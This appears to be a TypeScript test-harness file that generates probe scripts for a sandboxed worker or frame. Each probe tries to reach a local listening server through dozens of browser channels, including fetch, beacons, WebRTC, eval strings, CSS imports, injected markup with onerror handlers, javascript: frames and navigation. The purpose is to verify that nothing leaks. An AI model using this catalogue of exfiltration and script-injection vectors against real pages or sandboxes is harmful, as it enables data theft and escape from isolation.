/**
 * Ways out of a realm, as source text. `at(name)` of the text is an address whose host name and path carry the name of
 * the probe and of the realm, so that a request, a connection or a look-up of a name tells who made it.
 */
export interface ProbeAddresses {
  /** The server that must hear nothing. */
  readonly port: number;
  /** `w` or `f`. */
  readonly realm: string;
}

const addresses = ({ port, realm }: ProbeAddresses): string => `
const places = [
  (name) => "http://" + name + "-${realm}.leak.localhost:${port}/leak-" + name + "-${realm}",
  (name) => "http://" + name + "-${realm}.probe.invalid/leak-" + name + "-${realm}",
];
const answers = {};
const attempt = (name, run) => {
  try { const got = run(); answers[name] = typeof got; if (got && got.catch) got.catch(() => undefined); } catch (failure) { answers[name] = String(failure && failure.name); }
};`;

/** Of every global environment. */
const anywhere = `
const ways = (at) => ({
  fetch: () => fetch(at("fetch")),
  nocors: () => fetch(at("nocors"), { mode: "no-cors" }),
  keepalive: () => fetch(at("keepalive"), { keepalive: true, method: "POST", body: "x" }),
  request: () => fetch(new Request(at("request"), { method: "PUT", body: "x", credentials: "include" })),
  later: () => fetchLater(at("later"), { activateAfter: 0 }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send(); },
  ws: () => new WebSocket(at("ws").replace("http", "ws")),
  wsstream: () => new WebSocketStream(at("wsstream").replace("http", "ws")).opened,
  es: () => new EventSource(at("es")),
  wt: () => new WebTransport(at("wt").replace("http:", "https:")).ready,
  beacon: () => navigator.sendBeacon(at("beacon"), "x"),
  import: () => import(at("import")),
  importdata: () => import("data:text/javascript,import('" + at("importdata") + "')"),
  importblob: () => import(URL.createObjectURL(new Blob(["import '" + at("importblob") + "'"], { type: "text/javascript" }))),
  importscripts: () => importScripts(at("importscripts")),
  worker: () => new Worker(at("worker")),
  blobworker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + at("blobworker") + "')"]))),
  shared: () => new SharedWorker(at("shared")),
  sw: () => navigator.serviceWorker.register(at("sw")),
  font: () => { const face = new FontFace("x", "url(" + at("font") + ")"); return face.load(); },
  rtc: () => { const rtc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(at("rtc")).host }] }); rtc.createDataChannel("x"); rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); },
  webkitrtc: () => new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(at("webkitrtc")).host }] }),
  eval: () => eval("fetch('" + at("eval") + "')"),
  function: () => new Function("fetch('" + at("function") + "')")(),
  timer: () => setTimeout("fetch('" + at("timer") + "')"),
  constructor: () => (() => undefined).constructor("fetch('" + at("constructor") + "')")(),
  asyncconstructor: () => (async () => undefined).constructor("fetch('" + at("asyncconstructor") + "')")(),
  caches: () => caches.open("x").then((cache) => cache.add(at("caches"))),
  stylesheet: () => { const sheet = new CSSStyleSheet(); sheet.replaceSync("@import url(" + at("stylesheet") + "); * { background: url(" + at("stylesheet2") + ") }"); },
  report: () => new ReportingObserver(() => undefined).observe(),
  broadcast: () => new BroadcastChannel("x").postMessage(at("broadcast")),
  post: () => { for (const target of [self.parent, self.top, self.opener]) target.postMessage({ kind: "platon-frame-start", at: at("post") }, "*"); },
  wasm: () => WebAssembly.compileStreaming(fetch(at("wasm"))),
  image: () => { new Image().src = at("image"); },
  audio: () => { new Audio(at("audio")).play(); },
  history: () => history.pushState({}, "", at("history")),
});
for (const at of places) for (const [name, run] of Object.entries(ways(at))) attempt(name, () => run());
`;

/** Elements; in a worker they are operations for the host's allow-list, in a frame real ones. */
const elements = `
const markup = (at) => [
  '<img src="' + at("img") + '" srcset="' + at("srcset") + ' 2x">', '<picture><source srcset="' + at("source") + '"><img></picture>',
  '<link rel="stylesheet" href="' + at("link") + '">', '<link rel="icon" href="' + at("icon") + '">', '<link rel="manifest" href="' + at("manifest") + '">',
  '<link rel="preload" as="image" href="' + at("preload") + '">', '<link rel="prefetch" href="' + at("prefetch") + '">', '<link rel="modulepreload" href="' + at("modulepreload") + '">',
  '<link rel="prerender" href="' + at("prerender") + '">', '<link rel="dns-prefetch" href="' + at("dnsprefetch") + '">', '<link rel="preconnect" href="' + at("preconnect") + '">',
  '<iframe src="' + at("iframe") + '"></iframe>', '<iframe srcdoc="<script>fetch(\\'' + at("srcdoc") + '\\')</scr' + 'ipt><img src=' + at("srcdocimg") + '>"></iframe>',
  '<iframe src="javascript:fetch(\\'' + at("jsframe") + '\\')"></iframe>', '<object data="' + at("object") + '"></object>', '<embed src="' + at("embed") + '">',
  '<video src="' + at("video") + '" poster="' + at("poster") + '"></video>', '<audio src="' + at("audioel") + '" autoplay></audio>', '<track src="' + at("track") + '">',
  '<svg><image href="' + at("svgimage") + '"/><use href="' + at("use") + '#a"/><script href="' + at("svgscript") + '"></scr' + 'ipt></svg>',
  '<a href="' + at("a") + '" ping="' + at("ping") + '">a</a>', '<form action="' + at("form") + '"><button formaction="' + at("formaction") + '">send</button></form>',
  '<p style="background: url(' + at("style") + '); list-style-image: url(' + at("style2") + ')">p</p>', '<style>@import "' + at("cssimport") + '"; @font-face { font-family: y; src: url(' + at("cssfont") + ') } p { font-family: y; background: image-set(url(' + at("cssset") + ') 1x); cursor: url(' + at("csscursor") + '), auto } p::before { content: url(' + at("csscontent") + ') }</style>',
  '<base href="' + at("base") + '/">', '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ' + at("report") + '">',
  '<img src=x onerror="fetch(\\'' + at("onerror") + '\\')">', '<table background="' + at("background") + '"></table>', '<input type="image" src="' + at("inputimage") + '">',
  '<script src="' + at("script") + '"></scr' + 'ipt>', '<math href="' + at("math") + '">m</math>', '<body background="' + at("body") + '">', '<portal src="' + at("portal") + '"></portal>',
].join("");
`;

/** What only a document has; the probes that leave the document come last, in frames of their own. */
const documents = `
for (const at of places) {
  attempt("markup", () => { const box = document.createElement("div"); box.innerHTML = markup(at); document.body.append(box);
    for (const link of box.querySelectorAll("link, base, meta, style")) document.head.append(link);
    for (const old of box.querySelectorAll("script")) { const script = document.createElement("script"); script.src = at("scriptel"); script.textContent = "fetch('" + at("inlinescript") + "')"; document.head.append(script); }
    for (const press of box.querySelectorAll("a, button")) for (const target of ["_top", "_blank", "other"]) { press.target = target; press.click(); }
    for (const form of box.querySelectorAll("form")) { form.submit(); form.requestSubmit(); } });
  attempt("speculation", () => { const script = document.createElement("script"); script.type = "speculationrules"; script.textContent = JSON.stringify({ prefetch: [{ urls: [at("speculation")] }], prerender: [{ urls: [at("speculation2")] }] }); document.head.append(script); });
  attempt("importmap", () => { const script = document.createElement("script"); script.type = "importmap"; script.textContent = JSON.stringify({ imports: { x: at("importmap") } }); document.head.append(script); });
  attempt("open", () => { window.open(at("open")); window.open(at("openself"), "_top"); });
  attempt("top", () => { top.location = at("top"); });
  attempt("parentlocation", () => { parent.location.href = at("parentlocation"); });
  attempt("nestedrtc", () => { const frame = document.createElement("iframe"); document.body.append(frame); new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(at("nestedrtc")).host }] }).createDataChannel("x"); });
  attempt("nestedfetch", () => { const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.fetch(at("nestedfetch")); });
  attempt("write", () => { const frame = document.createElement("iframe"); document.body.append(frame); frame.contentDocument.write("<img src=" + at("write") + ">"); });
  attempt("worklet", () => CSS.paintWorklet.addModule(at("worklet")));
  attempt("audioworklet", () => new AudioContext().audioWorklet.addModule(at("audioworklet")));
  attempt("xslt", () => new XSLTProcessor().importStylesheet(new DOMParser().parseFromString('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:import href="' + at("xslt") + '"/></x:stylesheet>', "text/xml")));
  attempt("dtd", () => new DOMParser().parseFromString('<!DOCTYPE x SYSTEM "' + at("dtd") + '"><x/>', "text/xml"));
  attempt("notification", () => new Notification("x", { icon: at("notification") }));
  attempt("payment", () => new PaymentRequest([{ supportedMethods: at("payment") }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment());
  attempt("credential", () => navigator.credentials.get({ identity: { providers: [{ configURL: at("credential"), clientId: "x" }] } }));
  attempt("protocol", () => navigator.registerProtocolHandler("web+x", at("protocol") + "?%s"));
  attempt("canvas", () => { const image = new Image(); image.crossOrigin = "anonymous"; image.src = at("canvas"); });
  attempt("media", () => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: at("media") }] }); });
}
`;

const count = `export default () => <output>{Object.keys(answers).length}</output>;`;

export const workerProbes = (target: ProbeAddresses): string => `${addresses(target)}${anywhere}${elements}
export default () => <div><output>{Object.keys(answers).length}</output>{places.map((at, index) => <div key={index} dangerouslySetInnerHTML={{ __html: markup(at) }} />)}
  {places.map((at, index) => <p key={index} style={{ background: "url(" + at("jsxstyle") + ")" }}><img src={at("jsximg")} /><a href={at("jsxa")} ping={at("jsxping")}>a</a></p>)}</div>;`;

export const frameProbes = (target: ProbeAddresses): string => `${addresses(target)}${anywhere}${elements}${documents}${count}`;

/** Each leaves its document, which is why it has one to itself. */
export const leavingFrames = (target: ProbeAddresses): readonly string[] =>
  [
    `location.href = at("location");`,
    `const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=" + at("refresh"); document.head.append(meta);`,
    `const link = document.createElement("a"); link.href = at("anchor"); document.body.append(link); link.click();`,
    `location.replace("data:text/html,<script>location='" + at("datadocument") + "'</scr" + "ipt><img src=" + at("dataimage") + ">");`,
    `location.assign(URL.createObjectURL(new Blob(["<img src=" + at("blobimage") + "><script>fetch('" + at("blobdocument") + "')</scr" + "ipt>"], { type: "text/html" })));`,
  ].map(
    (leave) => `${addresses(target)}
setTimeout(() => { const [at, name] = places; ${leave} }, 300);
setTimeout(() => { const at = places[1]; ${leave} }, 600);
export default () => <output>leaving</output>;`,
  );
